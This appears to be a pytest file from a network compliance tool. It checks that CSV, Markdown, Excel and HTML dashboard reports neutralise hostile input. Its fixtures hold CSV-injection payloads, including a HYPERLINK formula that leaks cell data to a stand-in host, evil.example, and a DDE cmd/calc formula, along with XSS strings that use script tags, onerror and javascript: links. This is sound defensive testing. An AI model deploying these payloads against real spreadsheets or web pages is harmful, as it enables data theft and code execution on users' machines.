"""R1 hardening, injection into reports (#9, #10): spreadsheet formulas (OWASP CSV injection), raw HTML in
Markdown, and JSON inside the dashboard's <script> elements."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import yaml
from openpyxl import load_workbook

from nornir_tasks.compliance.baseline import BaselineFile, BaselineSet, Rule
from nornir_tasks.compliance.run import RunningConfig, run_compliance
from nornir_tasks.compliance.waivers import Waiver, WaiverRegister
from nornir_tasks.inventory.load import load_or_raise
from nornir_tasks.reports.compliance_csv import devices_csv, findings_csv
from nornir_tasks.reports.compliance_markdown import to_markdown
from nornir_tasks.settings import Settings
from tests.conftest import ROOT, edit_yaml, run_cli

FIX = ROOT / "tests" / "fixtures" / "compliance"
TODAY = date(2026, 11, 25)
HOST, SITE = "lcu-sin-ho-ce01", "12-sin-ho"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
HTML = '<script>alert(1)</script><img src=x onerror=alert(2)> | **bold** [x](javascript:alert(3))'


@pytest.fixture()
def inv_dir(tmp_path: Path) -> Path:
    dst = tmp_path / "inventory"
    shutil.copytree(ROOT / "inventory", dst)
    edit_yaml(dst / "sites.yaml", lambda d: d[SITE].update(name=FORMULA))
    return dst


def _run(inv_dir: Path, tmp_path: Path):
    inv = load_or_raise(inv_dir, today=TODAY).inventory
    rule = Rule(id="C6", title="Nhật ký tập trung", severity="M", basis="Nghị định 53/2022/NĐ-CP",
                config={"frr": [{"require": [r"^log syslog\b"]}]})
    baselines = BaselineSet((BaselineFile(version="1", effective=date(2025, 7, 1), grace_days=0, rules=(rule,)),))
    waivers = WaiverRegister((Waiver(rule="C6", device=HOST, reason=HTML, approver="@SUM(1+1)*cmd|' /C calc'!A0",
                                     expires=date(2027, 1, 1)),))
    running = {HOST: RunningConfig(text=(FIX / "frr/ospf_drift/running.cfg").read_text(),
                                   collected_at=datetime(2026, 11, 24, tzinfo=UTC))}
    intended = {HOST: (FIX / "frr/ospf_drift/intended.cfg").read_text() + "log syslog ```\n"}
    settings = Settings(inventory_dir=inv_dir, state_dir=tmp_path / ".state", build_dir=tmp_path / "build")
    return run_compliance(settings, inv, [HOST], running, intended, TODAY, baselines=baselines, waivers=waivers)


def _strings(data: object) -> set[str]:
    if isinstance(data, str):
        return {data}
    if isinstance(data, dict):
        return set().union(*(_strings(v) for v in data.values()), set())
    if isinstance(data, list):
        return set().union(*(_strings(v) for v in data), set())
    return set()


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]


def test_compliance_csv_cells_are_never_formulas(inv_dir: Path, tmp_path: Path) -> None:
    run = _run(inv_dir, tmp_path)
    cells = _cells(devices_csv(run)) + _cells(findings_csv(run))
    assert "'" + FORMULA in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], "a cell a spreadsheet would run"


def test_compliance_markdown_shows_html_as_text(inv_dir: Path, tmp_path: Path) -> None:
    md = to_markdown(_run(inv_dir, tmp_path))
    assert "waived by" in md
    assert "<script" not in md and "<img" not in md and "&lt;script&gt;" in md
    assert not re.search(r"(?<!\\)\]\(javascript:", md) and "**bold**" not in md   # no live link, no markup
    # a config line with ``` cannot close the code block: every fence is longer than the runs inside it
    assert "log syslog ```" in md and "````diff" in md


def test_rollout_reports_keep_a_hostile_site_name_inert(inv_dir: Path, tmp_path: Path) -> None:
    hostile = '<!--<script>' + FORMULA
    edit_yaml(inv_dir / "sites.yaml", lambda d: d[SITE].update(name=hostile))
    cfg = yaml.safe_load((ROOT / "config.yaml").read_text())
    cfg["user_defined"]["govnet"].update({"inventory_dir": str(inv_dir), "plans_dir": str(inv_dir / "plans"),
                                          "state_dir": str(tmp_path / ".state"), "reports_dir": str(tmp_path / "r")})
    cfg["inventory"]["options"]["inventory_dir"] = str(inv_dir)
    (tmp_path / "config.yaml").write_text(yaml.safe_dump(cfg, allow_unicode=True))
    out = tmp_path / "out"
    r = run_cli("rollout", "report", "--config", str(tmp_path / "config.yaml"), "--as-of", "2025-11-25",
                "--lang", "en", "--out", str(out))
    assert r.returncode == 0, r.stderr
    wb = load_workbook(out / "rollout.xlsx")
    formulas = [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, formulas
    texts = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert hostile in texts                                    # shown as written, as text
    html = (out / "dashboard.html").read_text(encoding="utf-8")
    scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", html, re.S)
    assert scripts and not [s for s in scripts if "<!--" in s or "<script" in s.lower()]
    data = [json.loads(s) for s in re.findall(r'<script type="application/json"[^>]*>(.*?)</script>', html, re.S)]
    assert hostile in _strings(data)                           # the name survives, intact, as data
    for line in csv.reader(io.StringIO((out / "rollout.csv").read_text(encoding="utf-8").lstrip("\ufeff"))):
        assert not [c for c in line if c[:1] in ("=", "+", "@")], line
